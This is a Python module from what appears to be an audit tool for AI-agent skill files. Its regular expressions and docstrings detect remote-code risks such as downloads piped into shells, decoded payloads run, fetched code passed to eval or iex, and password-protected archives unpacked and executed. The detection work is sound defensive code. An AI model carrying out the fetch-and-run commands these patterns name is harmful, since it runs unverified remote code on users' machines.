"""Remote code and supply chain: downloads run by a shell, or archives downloaded and unpacked (SK630),
decoded payloads run (SK631), unpinned or URL installs (SK632, SK633) and reverse shells (SK634).

They are looked for in every text file, prose included: a skill's Markdown is instructions the
agent follows, so a command in it is as good as run.
"""
from __future__ import annotations

import bisect
import functools
import itertools
import re
from dataclasses import replace
from typing import Callable, Iterator

from skillsite.audit.declare import COMMANDS, Pattern, Rule, command, pattern, rule
from skillsite.audit.hit import Hit
from skillsite.audit.text import Document, clipped_before, line_bounds, white_space_start

#: HTTPS hosts of well-known projects' own installers: piping them into a shell is medium.
KNOWN_INSTALLER_HOSTS = frozenset({
    "astral.sh", "sh.rustup.rs", "rustup.rs", "bun.sh", "deno.land", "get.docker.com", "fluxcd.io",
    "run.linkerd.io", "aka.ms", "aspire.dev", "ollama.com", "claude.ai", "get.pnpm.io", "fnm.vercel.app",
    "get.sdkman.io", "starship.rs", "tailscale.com", "install.determinate.systems", "nixos.org",
    "install.python-poetry.org", "get.helm.sh", "foundry.paradigm.xyz", "sh.vector.dev", "dot.net",
    "dotnet.microsoft.com", "get.k3s.io", "pyenv.run", "get.volta.sh", "mise.run", "cli.github.com",
    "opencode.ai", "cursor.com", "install.pulumi.com", "get.pulumi.com", "sentry.io", "cli.sentry.dev",
    "supabase.com", "fly.io", "railway.app", "vercel.com", "get.jetify.com", "brew.sh",
    "deb.nodesource.com", "rpm.nodesource.com",
})
#: raw.githubusercontent.com owners whose install scripts are the official way to install them.
KNOWN_INSTALLER_REPOS = ("Homebrew/", "nvm-sh/", "helm/", "pyenv/", "ohmyzsh/", "golangci/", "anchore/",
                         "aquasecurity/", "sigstore/", "kubernetes-sigs/", "rust-lang/", "nodesource/")

#: An option of sudo or doas (``-u``), and a word that may be its value (``root``, ``-g`` too).  No
#: ``|`` in an option: the shell ends sudo's command there.  Read with ``-\S+``, an option ran on
#: across every ``|`` of a line, so each command piped into sudo read the rest of the text again
#: (quadratic: 80,000 characters of ``xxd -r|sudo -a `` took 83 s).
_SUDO_OPTION, _SUDO_VALUE = r"-[^\s|]+\s+", r"[\w.-]+\s+"
#: sudo's options, each maybe with a value: where they may end, tried in the order
#: ``(?:-\S+\s+(?:[\w.-]+\s+)?)*`` tries them, each end once.  That pattern reads ``-a -b`` as an
#: option and its value or as two options, and where nothing it can run follows a line of
#: options it tried every reading (exponential in their number).  Here a word after an option
#: read without a value is read as an option only where that reads on to an end that reading it as
#: the value (tried first) did not: where it may not be a value (``-a -u=x``), or with a value of
#: its own that may not be an option (``-a -u root``).  Else the run may end after it, tried
#: before the run ends without it.
_SUDO_OPTIONS = (rf"(?:{_SUDO_OPTION}{_SUDO_VALUE}"
                 rf"|{_SUDO_OPTION}(?={_SUDO_VALUE}){_SUDO_OPTION}(?!-[^\s|]){_SUDO_VALUE}"
                 rf"|{_SUDO_OPTION}(?!{_SUDO_VALUE}))*"
                 rf"(?:{_SUDO_OPTION}(?={_SUDO_VALUE}))?")
#: env's options (``-i``) and settings (``A=1``), a setting read up to its first ``=`` after its
#: first character: ``\S+=\S*`` split ``a=b=c`` at either ``=``, and where nothing it can run
#: followed, tried every split of every word (exponential in their number).  No ``|`` in a setting,
#: as in sudo's options: the shell ends env's command there.
_ENV_ARGUMENTS = r"(?:-\w+\s+|[^\s|][^\s=|]*=[^\s|]*\s+)*"
_SHELL = (rf"(?:(?:sudo|doas)\s+{_SUDO_OPTIONS})?"
          rf"(?:(?:/usr/(?:local/)?bin/|/bin/)?env\s+{_ENV_ARGUMENTS})?"   # env, /usr/bin/env -i
          r"(?:/usr/(?:local/)?bin/|/bin/)?[\\'\"]?")   # sudo -u root, doas; 'sh', \sh
_RUNNER = (r"(?:(?:ba|z|da|k|fi|c)?sh\b(?:\s+-[sx]\b|\s+-(?=\s|$)|\s+--(?=\s))?|"
           r"python[23]?(?:\.\d+)?(?=\s*(?:(?m:$)|[;&|)#\"'`]|-(?!\S)))|"
           r"node(?=\s*(?:(?m:$)|[;&|)#\"'`]|-(?!\S)))|perl(?=\s*(?:(?m:$)|[;&|)#]))|ruby(?=\s*(?:(?m:$)|[;&|)#]))|"
           r"php(?=\s*(?:(?m:$)|[;&|)#]))|pwsh\b|powershell\b|iex\b|Invoke-Expression\b|"
           r"source\b(?=\s*(?:(?m:$)|[;&|)]|/dev/stdin))|"
           r"\$\{?SHELL\b\}?)")
_PIPED = rf"(?:\|[^\n|;]*){{0,2}}\|&?\s*{_SHELL}{_RUNNER}"   # | sh, |& sh, or | tee x | sudo bash
_DOWNLOAD = r"(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|aria2c)"
_DOWNLOADERS = "curl wget iwr irm invoke-web invoke-rest aria2c"


def _atomic(body: str, name: str) -> str:
    """``body`` matched as far as it goes and never given back, as ``(?>body)`` does on Python 3.11+
    (not on 3.10): a look-ahead, which never backtracks, captures it and a back-reference takes it.
    Without it a failing line of repeated downloads is tried in every split of its words."""
    return f"(?=(?P<{name}>{body}))(?P={name})"


#: An option of what runs a saved file (sudo, nohup, exec, an interpreter), and the white space after
#: it: no ``;``, ``&`` or ``|`` in it, nor a line break after it, where the shell ends the command.
#: Read as ``-\S+\s+``, an option ran on into the next commands, and a download among them
#: (``sudo -curl -of;sudo -curl -of;sudo ...``) read the rest of the text again from each
#: (quadratic: 80,000 characters took 26 s).
_RUN_OPTION = r"-[^\s;&|]+[^\S\n]+"
#: The first letters of sudo, nohup and exec, and of the interpreters that run a saved file: each
#: tried as a look-ahead before their words.  ``re`` has no quick test for the first letter of a
#: word matched regardless of case, so at each place an option of what runs the file was given back
#: it tried every word in turn (a download saved by 60 ``-o`` read a ``sudo -a -a ...`` of 80,000
#: characters and gave it back from each: 0.3 s).
_RUNS_FIRST, _INTERPRETER_FIRST = r"(?=[ens])", r"(?=[bdknprsz.])"
#: What may follow the options of what runs the saved file: no option (sudo, an interpreter, ``./``,
#: the file), or the file named like one (``-f``).
_AFTER_RUN_OPTIONS = r"(?=[^-]|(?P=file)(?![\w.-]))"


def _run_options(name: str) -> str:
    """The options of what runs the saved file (sudo's, an interpreter's).  Given back one by one, where
    what follows them all fails, only when the file is named like an option (``dash``: an empty group
    the file's reading captures when it starts with a ``-``), and each tried against the file alone
    (:data:`_AFTER_RUN_OPTIONS`); else read whole: an option follows each place they could be given
    back at, and no sudo, interpreter, ``./`` or file starts with one (a download saved at 60 places
    read a ``sudo -a -a ...`` of 80,000 characters and gave it back at each, trying each of them)."""
    return (rf"(?:(?P=dash)(?:{_RUN_OPTION})*{_AFTER_RUN_OPTIONS}"
            rf"|(?!(?P=dash)){_atomic(f'(?:{_RUN_OPTION})*', name)})")


def _saved_then_run(producer: str, written: str) -> str:
    """What ``producer`` writes to a file (``written``: how it names the file), then that file run,
    at once or after one more command (``chmod +x``), on the same line or the next, maybe by sudo,
    nohup or exec and an interpreter (each with its options, on the line that runs the file)."""
    return (
        rf"\b{producer}[^\n;&|>]{{0,200}}?(?:{written}|>\s*)"
        r"[\"']?" + _atomic(r"(?:(?=-)(?P<dash>))?[\w.~$/-]{1,120}", "file") + r"[\"']?"
        + _atomic(r"[^\n;&|]{0,120}", "args")
        + r"(?:&&|;|\n)(?:" + _atomic(r"[^\n;&|]{0,120}(?:&&|;|\n)", "then") + r")?[ \t]*"
        rf"(?:{_RUNS_FIRST}(?:sudo|nohup|exec)[^\S\n]+{_run_options('run_options')})*"
        rf"(?:{_INTERPRETER_FIRST}(?:(?:ba|z|da|k)?sh|source|\.|python[23]?|node|perl|ruby|pwsh|powershell)[^\S\n]+"
        rf"{_run_options('interpreter_options')}[\"']?(?:\./)?|\./)?"
        r"(?P=file)(?![\w.-])")


#: A command's options (``-d``, ``-x``): each a word and the white space after it, read one way.
_OPTIONS = r"(?:-\w+\s+)*"


def _on_its_line(words: str, name: str) -> str:
    """A command (``words``, its white space written ``[^\\S\\n]``) and its options, read whole where
    they stay on its line; where they run on into the next line (white space, or an option, before
    the line break) it does not match."""
    return _atomic(rf"\b(?:{words})[^\S\n]+(?:-\w+[^\S\n]+)*", name) + r"(?!-\w+\s|\n)"


def _rest_of_segment(start: str, words: str, ends: str, name: str) -> str:
    """The rest of a command's segment, up to a line break or one of ``ends`` (characters of a
    class), as a hopeless run reads it: a later command on it (``start``, ``words`` as
    :func:`_on_its_line` reads them) is read whole with its options, so none of them is read again
    from each of its words, and the run stops at a later command whose options run on into the next
    line, where it may match (the gate looks on from there)."""
    return rf"(?:(?!{start})[^\n{ends}]|{_on_its_line(words, name)})*"


#: A download saved to a file (``-o FILE``, ``-O FILE``, ``> FILE``), then that file run.
_SAVED_THEN_RUN = _saved_then_run(r"(?:curl|wget)\b", r"\s-[A-Za-z]*o\s*|\s--output[= ]\s*|\s-[A-Za-z]*O\s*(?!-)|"
                                                   r"\s--output-document[= ]\s*")
#: A download, what the rest of its segment holds (its options, its URL, where it saves it: read by
#: :func:`_archive_unpacked`), then at once or after one more command, on its line or the next, what
#: unpacks an archive (its name in the group ``extractor``), to the end of that command (``unpack``).
#: Where it fails, the download's segment is passed over (hopeless): a later download on it reads to
#: the same end.  The one command between ends only where its segment does: tried there alone.
_DOWNLOAD_SAVED, _DOWNLOAD_SEGMENT = r"\b(?:curl|wget)\b", r"[^\n;&|]*"
_SAVED_ARCHIVE_UNPACKED = (
    r"(?:&&|;|\n)(?:[^\n;&|]*(?:&&|;|\n))?[ \t]*(?:sudo[ \t]+)?"
    r"(?P<unpack>(?P<extractor>unzip|7z[az]?|unrar|bsdtar|tar|Expand-Archive)(?![\w-])[^\n;&|]*)")
#: A decoded payload saved to a file (``> FILE``, ``-o FILE``, ``-out FILE``), then that file run.
_DECODED_THEN_RUN = _saved_then_run(r"(?:base64\s+(?:-\w+\s+)*(?:-[a-zA-Z]*[dD][a-zA-Z]*|--decode)|"
                                    r"xxd\s+(?:-\w+\s+)*-r|openssl\s+(?:base64|enc)\s+[^\n;&|>]{0,80}?-d)\b",
                                    r"\s-o\s*|\s--output[= ]\s*|\s-out\s+|\|\s*tee\s+(?:-a\s+)?")
#: Code fetched from a URL into a variable (PHP, Python, JavaScript): ``$c = file_get_contents(
#: "https://...")``, ``code = urlopen(u).read()``, ``r = await fetch(u)``.
_FETCHED_INTO = re.compile(
    r"(?<![\w$])(?P<var>\$?[A-Za-z_]\w*)\s*=\s*(?:await\s+)?(?:(?:file_get_contents|fopen)\s*\(\s*[\"']"
    r"(?:https?|ftp)://|curl_exec\s*\(|(?:requests|httpx)\.get\s*\(|(?:urllib\.request\.)?urlopen\s*\(|fetch\s*\()"
    r"(?P<call>)[^\n]{0,200}", re.IGNORECASE)
#: A variable handed whole to what runs code: ``exec(code)``, ``eval(await r.text())``, PHP's
#: ``assert($c)`` (an assertion elsewhere, ``assert(res.ok)``, runs nothing); no string literal
#: (``eval(r'1+1')``, ``exec(f'...')``).  :func:`_fetched_just_before` looks for its fetch.
_RUN_A_VARIABLE = (
    r"(?<![\w.$])(?:(?:exec|eval|new\s+Function|Function)\s*\(\s*(?:await\s+)?(?P<var>\$?[A-Za-z_]\w*)|"
    r"assert\s*\(\s*(?P<php>\$[A-Za-z_]\w*))(?![\w$'\"])")
#: How far before it the variable's fetch is looked for (lines, and characters however long they are).
_FETCHED_WITHIN_LINES, _FETCHED_WITHIN_CHARS = 20, 4000
#: Words one of which every match of :data:`_FETCHED_INTO` holds, lower-cased: the gate of
#: :data:`_RUN_A_VARIABLE` passes over a document holding none, where nothing is fetched to run (its
#: own literals, ``exec``, ``eval``, ``function`` and ``$``, are in most code, a fetch in few).  No
#: ``i`` in them: a capital dotted I, which ``IGNORECASE`` reads as one, is two characters in the
#: lower-cased text the gate looks in.
_FETCHING = "le_get_contents fopen curl_exec requests.get httpx.get urlopen fetch"


def _fetches(folded: str, into: re.Pattern[str] = _FETCHED_INTO,
             folding: Callable[[str], str] = str) -> dict[str, tuple[list[int], list[re.Match[str]]]]:
    """Where each variable is assigned code fetched from a URL (``into``), by its name (as
    ``folding`` reads it): where the fetching call of each such assignment opens, and its match, in
    order.  Found in one pass of a document, then looked up where a variable is run."""
    found: dict[str, tuple[list[int], list[re.Match[str]]]] = {}
    for fetch in into.finditer(folded):
        ends, fetches = found.setdefault(folding(fetch["var"]), ([], []))
        ends.append(fetch.end("call"))
        fetches.append(fetch)
    return found


def _fetched_just_before(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """The hit of a variable run (exec, eval ...) when code fetched from a URL was assigned to it
    earlier on its line or within the :data:`_FETCHED_WITHIN_LINES` lines before."""
    ends, fetches = doc.remember(_fetches, lambda: _fetches(doc.folded)).get(match["var"] or match["php"], ([], []))
    last = bisect.bisect_right(ends, match.start()) - 1
    if last < 0:
        return None
    fetch = fetches[last]
    if match.start() - ends[last] > _FETCHED_WITHIN_CHARS or \
            doc.folded.count("\n", ends[last], match.start()) > _FETCHED_WITHIN_LINES:
        return None
    return _downloaded(doc, fetch, hit) or hit  # the URL may be held in a variable too


#: PowerShell's downloads of text: ``iwr``, ``irm`` and their long names, WebClient's DownloadString.
_PS_DOWNLOAD = (r"(?:New-Object\s+(?:System\.)?Net\.WebClient\s*(?:\)\s*)?\.\s*DownloadString|"
                r"(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b)")
#: What makes PowerShell code of a string, to run with ``&``, ``.Invoke()`` or ``Invoke-Command``:
#: ``[scriptblock]::Create(...)``, ``$ExecutionContext.InvokeCommand.NewScriptBlock(...)``
#: (``InvokeScript`` runs it at once).
_SCRIPT_BLOCK = (r"(?:\[(?:System\.Management\.Automation\.)?ScriptBlock\]\s*::\s*Create|"
                 r"\$ExecutionContext\s*\.\s*InvokeCommand\s*\.\s*(?:NewScriptBlock|InvokeScript))\s*")
#: A shell's download into a variable: ``s=$(curl -fsSL URL)``, ``local s="$(wget -qO- URL)"``,
#: ``s=`curl URL```; ``download`` is the command, graded as piped into a shell (its host).
_SHELL_FETCHED_INTO = re.compile(
    r"(?<![\w$])(?P<var>[A-Za-z_]\w*)=[\"']?(?:\$\(|`)(?P<call>)\s*(?P<download>(?:curl|wget)\b[^\n)`]*)",
    re.IGNORECASE)
#: A shell variable, quoted or not, braced or not, as a whole word (``"$s"``, ``${s}``).
_SHELL_VARIABLE = r"[\"']?\$\{?(?P<%s>[A-Za-z_]\w*)\}?[\"']?(?=[\s;&|)`]|(?m:$))"
#: A shell variable run as code: ``eval "$s"``, ``bash -c "$s"``, ``python3 -c "$s"``, ``node -e "$s"``,
#: ``bash <<< "$s"``, ``echo "$s" | sh`` (piped as :data:`_PIPED` reads it, into a shell reading its
#: program there: not ``python3 -c '...'`` nor ``bash scan.sh --stdin``, which read the variable as
#: data).  Its fetch is looked for before it (:func:`_shell_fetched_before`).
_SHELL_RUNS_A_VARIABLE = (
    r"(?:\beval[ \t]+|\b(?:(?:ba|z|da|k)?sh|python[23]?(?:\.\d+)?)[ \t]+(?:-\w+[ \t]+)*-[A-Za-z]*c[ \t]+|"
    r"\b(?:node|perl|ruby)[ \t]+(?:-\w+[ \t]+)*(?:-[A-Za-z]*[eE]|--eval)[ \t]+|"
    r"\b(?:(?:ba|z|da|k)?sh|python[23]?|node|perl|ruby)[ \t]*<<<[ \t]*)" + _SHELL_VARIABLE % "var" + "|"
    r"\b(?:echo|printf[ \t]+[\"']%s(?:\\n)?[\"'])[ \t]+" + _SHELL_VARIABLE % "piped" + r"[ \t]*" + _PIPED
    + r"(?![ \t]+[^\s;&|)#-])")
#: PowerShell's download into a variable: ``$s = irm URL``, ``$r = (iwr URL).Content``,
#: ``$s = (New-Object Net.WebClient).DownloadString(URL)``, ``$s = $wc.DownloadString(URL)``.
_POWERSHELL_FETCHED_INTO = re.compile(
    r"(?<![\w$])(?P<var>\$[A-Za-z_]\w*)[ \t]*=[ \t]*(?P<call>)(?P<download>\(?[ \t]*"
    r"(?:(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b|"
    r"(?:\([ \t]*New-Object[ \t]+(?:System\.)?Net\.WebClient[ \t]*\)|\$\w+)[ \t]*\.[ \t]*DownloadString\b)[^\n;]*)",
    re.IGNORECASE)
#: A PowerShell variable (maybe its response's ``.Content``) as a whole word.
_POWERSHELL_VARIABLE = r"(?P<%s>\$[A-Za-z_]\w*)(?:\.Content)?(?![\w:.\[(])"
#: A PowerShell variable run as code: ``iex $s``, ``Invoke-Expression -Command $s``, ``iex($r.Content)``,
#: ``$s | iex``, ``[scriptblock]::Create($s)``.  Its fetch is looked for before it.
_POWERSHELL_RUNS_A_VARIABLE = (
    r"(?:\b(?:iex|Invoke-Expression)(?:[ \t]+-Command)?[ \t]*(?:\([ \t]*)?|" + _SCRIPT_BLOCK + r"\(\s*)"
    + _POWERSHELL_VARIABLE % "var" + "|" + _POWERSHELL_VARIABLE % "piped"
    + r"[ \t]*\|[ \t]*(?:iex|Invoke-Expression)\b")
#: Words one of which every match of :data:`_SHELL_FETCHED_INTO`, or :data:`_POWERSHELL_FETCHED_INTO`,
#: holds (the gates of the runs; no ``i`` in them: see :data:`_FETCHING`).
_SHELL_FETCHING = "curl wget"
_POWERSHELL_FETCHING = "wr rm webrequest restmethod downloadstr"


def _shell_fetched_before(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """A shell variable run as code, when a download was assigned to it just before (and not another value
    since): graded as that download piped into a shell."""
    name = match["var"] or match["piped"]
    return _assigned_a_download(doc, match, hit, _SHELL_FETCHED_INTO, name,
                                re.compile(rf"(?<![\w$]){re.escape(name)}="))


def _powershell_fetched_before(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """A PowerShell variable run as code, when a download was assigned to it just before (and not another
    value since; PowerShell's names are read regardless of case)."""
    name = (match["var"] or match["piped"]).lower()
    return _assigned_a_download(doc, match, hit, _POWERSHELL_FETCHED_INTO, name,
                                re.compile(rf"(?<![\w$]){re.escape(name)}[ \t]*=(?!=)", re.IGNORECASE))


def _assigned_a_download(doc: Document, match: re.Match[str], hit: Hit, into: re.Pattern[str], name: str,
                         assigned: re.Pattern[str]) -> Hit | None:
    """The hit of a variable (``name``) run, when the last assignment to it before the match, on its line or
    within :data:`_FETCHED_WITHIN_LINES` lines, is a download (``into``; ``assigned``: any assignment to
    it): graded as that download piped into a shell is (:func:`_graded`)."""
    folding = str.lower if into is _POWERSHELL_FETCHED_INTO else str
    ends, fetches = doc.remember(into, lambda: _fetches(doc.folded, into, folding)).get(name, ([], []))
    last = bisect.bisect_right(ends, match.start()) - 1
    if last < 0:
        return None
    fetch = fetches[last]
    if match.start() - fetch.end() > _FETCHED_WITHIN_CHARS or \
            doc.folded.count("\n", fetch.end(), match.start()) > _FETCHED_WITHIN_LINES or \
            assigned.search(doc.folded, fetch.end(), max(fetch.end(), match.start())):
        return None
    return _graded(fetch["download"], hit)


#: A URL as an argument of a command (a word or a variable, after a space, a quote or a separator):
#: :func:`_given_to_a_command` checks that the command starts its line or segment.  Its options
#: read one way only: an option's value after a space is never an option itself (``-o -`` still
#: has one), and ``--ab`` is one option, not ``-`` then ``-ab``: read both ways, a line of options
#: with no URL after them was tried in every combination (exponential in the number of options).
_COMMAND_WORD = r"(?<![^\s;&|(`\"'])(?:\$\{?\w+\}?|[\w./-]+)"
_OPTION_VALUE = r"(?:=[^\s|;\"']+| (?!-[\w-]+[=\s])[^\s|;\"']+)?"
_URL = r"[ \t]+[\"']?(?:https?|ftp)://"
_URL_ARGUMENT = _COMMAND_WORD + r"(?:[ \t]+-[\w-]+" + _OPTION_VALUE + ")*" + _URL
#: What the command of :data:`_URL_ARGUMENT` read where the whole pattern fails at it: its options,
#: its URL and the rest of its segment up to a ``|``, or else its options alone (whole words, none
#: glued to a dot or a slash: ``-o.x`` is no option but a later command word reaching past them).
#: No later word among them starts a match: one from it, read as an option or a value of this
#: command, or ending its segment at the same ``|``, would be one of this command's.  So the search
#: goes on after them, looking for no later start inside (from each word of a line of options the
#: pattern read the rest of the line again: quadratic).
_READ_BY_THE_COMMAND = (r"(?:(?:[ \t]+-[\w-]+" + _OPTION_VALUE + ")*" + _URL + r"[^\n|;]*"
                        r"|(?:[ \t]+-[\w-]+(?![\w./-])" + _OPTION_VALUE + ")+)")
_INSTALLER_URL = re.compile(r"\b(https?)://([^/\s\"'`)]+)(/[^\s\"'`)]*)?", re.IGNORECASE)
_IP_ADDRESS = re.compile(r"^\d+\.\d+\.\d+\.\d+(?::\d+)?$")
#: Something to download: a URL, a variable, or a host name ("curl | sh" alone is a mention).
_SOURCE = re.compile(r"://|\$|\b[\w-]+\.[a-z]{2,}(?:/|:\d|\b)", re.IGNORECASE)


def _given_to_a_command(doc: Document, start: int) -> bool:
    """Whether the word at ``start`` starts its line or a segment of it (after ``;``, ``&``, ``|``,
    ``(`` or a backtick): the command, not a word of prose or a table's cell."""
    before = doc.folded[doc.folded.rfind("\n", 0, start) + 1:start].rstrip(" \t")
    return not before or before[-1] in ";&|(`"


def _installer_host(segment: str) -> tuple[str, bool, bool]:
    """The first URL's host in a command, whether it is plain HTTP, and whether it is a known installer."""
    match = _INSTALLER_URL.search(segment)
    if match is None:
        return "", False, False
    scheme, host, path = match.group(1).lower(), match.group(2).lower(), match.group(3) or ""
    known = host in KNOWN_INSTALLER_HOSTS or any(host.endswith("." + h) for h in KNOWN_INSTALLER_HOSTS)
    if host == "raw.githubusercontent.com":
        known = any(path[1:].startswith(repo) for repo in KNOWN_INSTALLER_REPOS)
    return host, scheme == "http", known and not _IP_ADDRESS.match(host)


def _downloaded(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """The hit of a download run, unless nothing is downloaded; medium for a known project's HTTPS installer."""
    return _graded(match.group(), hit)


def _graded(download: str, hit: Hit) -> Hit | None:
    """The hit of ``download`` (a command) run, unless nothing is downloaded; medium for a known project's
    HTTPS installer."""
    if not _SOURCE.search(download):
        return None
    host, plain, known = _installer_host(download)
    return replace(hit, detail=f" (from {host})" if host else "", severity="medium" if known and not plain else None)


def _downloaded_by_a_command(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """:func:`_downloaded`, for a URL given to the command that starts its line or segment."""
    return _downloaded(doc, match, hit) if _given_to_a_command(doc, match.start()) else None


#: Words one of which every match of :data:`_SAVED_ARCHIVE_UNPACKED` holds, lower-cased (its gate's: a
#: document with a download and none of them is passed over); no ``i`` in them (see :data:`_FETCHING`).
_UNPACKING = "unz 7z unrar bsdtar tar expand-arch"
#: What an archive a download saves ends with (``.tar.gz`` ends with ``.gz``).
_ARCHIVE_ENDS = tuple(f".{end}" for end in ("zip", "7z", "rar", "tar", "tgz", "tbz", "tbz2", "txz", "gz", "bz2", "xz",
                                          "zst"))
#: A download's option naming the file it saves to, with the name as its next word (``-o``, ``-Lo``,
#: wget's ``-O``, ``--output``), or glued to it (``-oagent.zip``, ``--output=agent.zip``).
_NAMING_OPTION = re.compile(r"-[A-Za-z]*[oO]|--output(?:-document)?")
_NAMED_IN_OPTION = re.compile(r"-[oO](?=.)|--output(?:-document)?=|>(?=.)")
_FETCHED_URL = re.compile(r"(?:https?|ftp)://", re.IGNORECASE)
#: What stands between words on a download's line: white space, and ``&&`` or ``;`` ending a command.
_BETWEEN_WORDS = re.compile(r"[\s;&]+")
#: A password on the command line of what unpacks an archive, by extractor (tar has none; unzip's
#: ``-p`` writes to a pipe, 7-Zip's and unrar's ``-p-`` ask for none): case matters.
_PASSWORDS = {"unzip": re.compile(r"(?<!\S)(?:-[A-Za-z]*P|--password\b)"),
              "7z": re.compile(r"(?<!\S)-p(?!-)"), "unrar": re.compile(r"(?<!\S)-p(?!-)"),
              "bsdtar": re.compile(r"(?<!\S)--passphrase\b")}
#: Something unpacked then run, where a command starts (a line, or after ``&&``, ``;``, ``||``, ``(``),
#: maybe by sudo, nohup or exec: ``./agent``, ``chmod +x agent``, ``sh install.sh``, ``.\agent.exe``.
_RUNS_UNPACKED = re.compile(
    r"(?:^|&&|;|\|\||\()[ \t]*(?:(?:sudo|nohup|exec)[ \t]+(?:-\w+[ \t]+)*)*"
    r"(?:\./(?=[\w.-])|chmod[ \t]+(?:-\w+[ \t]+)*[ugoa]*\+[rwXst]*x|(?:ba|z)?sh[ \t]+[\w./~$-]+\.sh\b|"
    r"\.\\[\w.-]+\.exe\b|Start-Process\b)", re.IGNORECASE | re.MULTILINE)
#: How far after the command unpacking the archive what runs its content is looked for: the rest of
#: its line and the next two, this many characters at most.
_UNPACKED_RUN_LINES, _UNPACKED_RUN_CHARS = 2, 600


def _archive_unpacked(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
    """A download saved as an archive, then that archive unpacked (:data:`_SAVED_ARCHIVE_UNPACKED`), is a
    finding when it is password-protected (which hides its content from every scanner, the ClawHavoc
    skills' way) or when what it held is run after it, on its line or the next two.  Medium, as for a
    download run, from a known project's HTTPS host, unless the archive has a password."""
    text, end = match.string, match.end()
    download = text[match.start():match.start("unpack")]   # and the command between, which may save it
    saved = _archives_saved(download)
    if saved.isdisjoint(_words(match["unpack"])) or \
            not _SOURCE.search(" ".join(word for word in _words(download) if word not in saved)):
        return None   # another archive, or nothing downloaded (the archive's name looks like a host's)
    extractor = match["extractor"].lower()
    password = _PASSWORDS.get({"7za": "7z", "7zz": "7z"}.get(extractor, extractor))
    locked = password is not None and password.search(match["unpack"]) is not None
    limit, reach = min(len(text), end + _UNPACKED_RUN_CHARS), end
    for _ in range(_UNPACKED_RUN_LINES + 1):
        line_break = text.find("\n", reach, limit)
        reach = limit if line_break < 0 else line_break + 1
    run = _RUNS_UNPACKED.search(text, end, reach)
    if not locked and run is None:
        return None
    host, plain, known = _installer_host(download)
    what = ("a password-protected archive unpacked" if locked else "an archive unpacked") + \
        (" and its content run" if run else "")
    return replace(hit, detail=f" (from {host}: {what})" if host else f" ({what})",
                   severity="medium" if known and not plain and not locked else None,
                   end=run.end() if run else hit.end)


def _words(commands: str) -> list[str]:
    """The words of commands (of a line's segments: no ``|`` in them), quotes around them taken off."""
    return [word.strip("\"'") for word in _BETWEEN_WORDS.split(commands) if word]


def _archives_saved(download: str) -> set[str]:
    """The names a download saves an archive as: the last part of a URL it fetches, or the word after
    ``-o``, ``-O``, ``--output`` (or glued to it, or after its ``=``) or ``>``, when it ends as an
    archive's name does (``.zip``, ``.tar.gz`` ...)."""
    words, names = _words(download), set()
    for before, word in zip([""] + words, words):
        if _FETCHED_URL.match(word):   # after curl's -O too: "named as the URL's last part"
            names.add(word.split("?", 1)[0].split("#", 1)[0].rsplit("/", 1)[-1])
        elif _NAMING_OPTION.fullmatch(before) or before == ">":
            names.add(word)
        elif _NAMED_IN_OPTION.match(word):
            names.add(_NAMED_IN_OPTION.sub("", word, count=1))
    return {name for name in names if name.lower().endswith(_ARCHIVE_ENDS)}


#: An interpreter given a download's output as its argument: ``sh -c "$(curl ...)"``, ``bash `curl ...```.
#: Each word starts with a letter written out (``bash|zsh|sh``, as ``(?:ba|z)?sh`` tries them), which
#: ``re`` tests before entering it: the pattern is tried at every place of the text its gate admits.
_INTERPRETER_WORDS = r"bash|zsh|sh|python[23]?|node|perl"
_INTERPRETER = rf"\b(?:{_INTERPRETER_WORDS})\s+"


def _interpreter_running(opening: str, closing: str, name: str, *words: str) -> Pattern:
    """An interpreter, its options, ``opening`` (``$(``) and a download, up to ``closing`` on its line
    (``words``: its gate's, see :func:`~skillsite.audit.declare.pattern`).
    Where it fails, what it read is passed over (hopeless): its options, and after a download, the
    rest of the line up to ``closing`` (:func:`_rest_of_segment`).  A later interpreter among its
    options reads fewer of them to the same end (each read them to the end of a line of thousands
    of ``-sh``: quadratic), and one after the download whose options stay on the line finds no
    ``closing`` either."""
    escaped = re.escape(closing)
    opened = rf"[\"']?{opening}\s*{_DOWNLOAD}\b"
    return pattern(_INTERPRETER + _OPTIONS + opened + rf"[^\n{closing}]*" + escaped, *words, hopeless=(
        _INTERPRETER, _OPTIONS + f"(?:{opened}{_rest_of_segment(_INTERPRETER, _INTERPRETER_WORDS, closing, name)})?"))


#: White space and up to two opening parentheses between PowerShell's ``iex`` and what it runs
#: (``iex (iwr ...)``, ``iex ((New-Object ...``), each space read one way: written
#: ``\s*\(?\s*\(?\s*``, a run of white space after ``iex`` with nothing it runs after it was split
#: in every three places (cubic: ``iex`` and 2,000 spaces or blank lines took over a minute).  So
#: is the white space around the parenthesis closing ``(New-Object Net.WebClient)`` (quadratic).
_OPENED = r"\s*(?:\(\s*){0,2}"
#: Gate words of the patterns every match of which holds a pipe, or a backtick: a document without
#: one (no table, no inline code) is passed over, for the cost of one scan for the character, where
#: their literals (a download word, a URL) would have had them searched for.
_PIPES, _BACKTICKS = "|", "`"


@rule("SK630", "remote-code", "high", "download piped into a shell or interpreter",
      "curl | sh runs whatever the host serves at that moment, unverified, and so does a downloaded "
      "archive unpacked and its content run; a well-known project's installer over HTTPS is medium. A "
      "password-protected archive downloaded and unpacked is high whoever serves it: the password hides "
      "its content from every scanner.", demotion=COMMANDS, patterns=(
          command(rf"\b{_DOWNLOAD}\b", r"[^\n|;]*", _PIPED, _PIPES),
          _interpreter_running(r"\$\(", ")", "later_interpreter"),
          command(rf"(?:\b(?:(?:ba|z)?sh|source)|(?<![\w.])\.)\s+<\(\s*{_DOWNLOAD}\b", r"[^\n)]*", r"\)"),
          command(rf"\beval\s+[\"']?\$\(\s*{_DOWNLOAD}\b", r"[^\n)]*", r"\)"),
          pattern(rf"\b(?:iex|Invoke-Expression){_OPENED}{_PS_DOWNLOAD}[^\n]*"),
          pattern(r"\b(?:exec|eval)\s*\(\s*(?:requests\.get|urllib\.request\.urlopen|urlopen|httpx\.get)\s*\([^\n]*"),
          pattern(r"\b(?:eval|new\s+Function|Function)\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?fetch\s*\([^\n]*"),
